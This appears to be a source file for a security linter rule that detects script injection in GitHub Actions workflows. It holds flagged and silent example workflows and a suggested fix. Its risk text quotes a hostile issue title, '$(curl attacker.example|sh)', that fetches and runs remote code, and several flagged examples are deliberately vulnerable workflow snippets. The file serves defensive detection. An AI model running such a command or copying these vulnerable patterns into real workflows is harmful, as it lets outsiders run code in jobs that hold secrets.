import { reportAttacks } from "../../attacks/report-attacks.js";
import { defineRule } from "../../rule.js";

export default defineRule({
  id: "script-injection",
  category: "trust",
  severity: "critical",
  fixes: "both",
  toldBy: ["template-injection"],
  summary: "An outsider's text becomes program text",
  risk: "The runner pastes the text into the script before a shell reads it, or the script evaluates it once more. An issue titled `$(curl attacker.example|sh)` is then a command in a job that holds secrets or a write token.",
  mend: "Hand the text over in `env:` and read the variable in double quotes. Never give it to `eval`, `bash -c` or arithmetic.",
  sources: [
    "https://securitylab.github.com/resources/github-actions-untrusted-input/",
    "https://docs.github.com/actions/concepts/security/script-injections",
  ],
  examples: {
    flagged: [
      {
        text: `on: {issues: {types: [opened]}}
permissions: {contents: write}
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: echo "New issue \${{ github.event.issue.title }}"
`,
        at: [7],
        severity: "critical",
      },
      {
        text: `on: {issues: {types: [opened]}}
permissions: {contents: write}
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - id: meta
        env:
          TITLE: \${{ github.event.issue.title }}
        run: echo "title=$TITLE" >> "$GITHUB_OUTPUT"
      - run: echo Announcing \${{ steps.meta.outputs.title }}
`,
        at: [11],
      },
      {
        text: `on: {issues: {types: [opened]}}
permissions: {contents: write}
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - env:
          T: \${{ github.event.issue.title }}
        run: bash -c "echo $T"
`,
        at: [9],
      },
      {
        text: `on: {issue_comment: {types: [created]}}
permissions: {contents: write}
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/github-script@v7
        with:
          script: core.info(\`\${{ github.event.comment.body }}\`)
`,
        at: [9],
      },
      {
        text: `on:
  pull_request_target:
permissions: {contents: write}
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: ./notify '\${{ github.head_ref }}'
`,
        at: [8],
      },
    ],
    silent: [
      {
        text: `on: {issues: {types: [opened]}}
permissions: {contents: write}
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: echo "$T"
        env:
          T: \${{ github.event.issue.title }}
`,
        because: "the shell gets the text as a variable's value and never reads it as code",
      },
      {
        text: `on: {issues: {types: [opened]}}
permissions: {contents: write}
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: echo "\${{ contains(github.event.issue.title, 'urgent') }}"
`,
        because: "a test gives `true` or `false`",
      },
      {
        text: `on: {issues: {types: [opened]}}
permissions: {contents: write}
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: echo "\${{ github.event.issue.number }} \${{ github.event.issue.user.login }}"
`,
        because: "numbers and logins hold nothing that a shell acts on",
      },
      {
        text: `on: {issues: {types: [opened]}}
permissions: {contents: write}
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: |
          # reported as: \${{ github.event.issue.title }}
          echo ok
`,
        because: "a title has no line break, so it can't leave the comment",
      },
      {
        text: `on: {workflow_dispatch: {inputs: {note: {type: string}}}}
permissions: {contents: write}
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: echo "\${{ inputs.note }}"
`,
        because: "only people with write access start it",
      },
    ],
  },

  repository: reportAttacks("script-injection"),
});
